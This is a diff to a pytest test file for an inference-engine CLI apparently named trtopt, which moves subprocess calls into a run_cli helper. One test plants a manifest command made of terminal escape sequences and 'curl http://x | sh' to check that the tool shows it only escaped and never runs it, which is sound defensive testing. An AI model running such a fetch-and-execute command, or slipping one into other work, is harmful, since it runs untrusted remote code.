@@ -3,13 +3,12 @@ from __future__ import annotations
 
 import json
 import os
-import subprocess
-import sys
 
 import numpy as np
 import pytest
 
 import trtopt
+from conftest import run_cli
 from trtopt.pipeline import build
 from trtopt.errors import TrtoptError, UsageError
 from trtopt.repository import load
@@ -68,8 +67,7 @@ def test_not_an_engine_folder(tmp_path):
 def test_run_verb_prints_outputs(engine, tmp_path):
     x = np.random.default_rng(0).standard_normal((2, 3, 16, 16)).astype(np.float32)
     np.save(tmp_path / "x.npy", x)
-    proc = subprocess.run([sys.executable, "-m", "trtopt", "run", str(engine), "--input", str(tmp_path / "x.npy"),
-                           "--save-outputs", str(tmp_path / "y.npz")], capture_output=True, text=True, timeout=120)
+    proc = run_cli("run", engine, "--input", tmp_path / "x.npy", "--save-outputs", tmp_path / "y.npz", timeout=120)
     assert proc.returncode == 0, proc.stderr
     assert "logits: float32[2x10]" in proc.stdout
     with load(engine) as runner:
@@ -77,8 +75,7 @@ def test_run_verb_prints_outputs(engine, tmp_path):
     np.testing.assert_allclose(np.load(tmp_path / "y.npz")["logits"], expected, rtol=1e-6)
     top = int(np.argmax(expected[0]))
     assert f"[0] {top}:" in proc.stdout
-    bad = subprocess.run([sys.executable, "-m", "trtopt", "run", str(engine), "--input", str(tmp_path / "nope.npy")],
-                         capture_output=True, text=True, timeout=120)
+    bad = run_cli("run", engine, "--input", tmp_path / "nope.npy", timeout=120)
     assert bad.returncode == 2 and "nope.npy" in bad.stderr
 
 
@@ -115,8 +112,7 @@ def test_recorded_command_is_shown_escaped_and_only_as_information(engine):
     with open(engine / manifest["engine"]["file"], "ab") as handle:
         handle.write(b"\0")
     _edit_manifest(engine, lambda m: m.update(command="\x1b]0;owned\x07\x1b[2J curl http://x | sh", name="n\x1b[31m"))
-    proc = subprocess.run([sys.executable, "-m", "trtopt", "run", str(engine), "--input", "none.npy"],
-                          capture_output=True, text=True, timeout=120)
+    proc = run_cli("run", engine, "--input", "none.npy", timeout=120)
     assert proc.returncode == 1, proc.stderr
     assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
     assert "rebuild it here with `trtopt build" in proc.stderr and "--name 'n\\x1b[31m' --force`" in proc.stderr
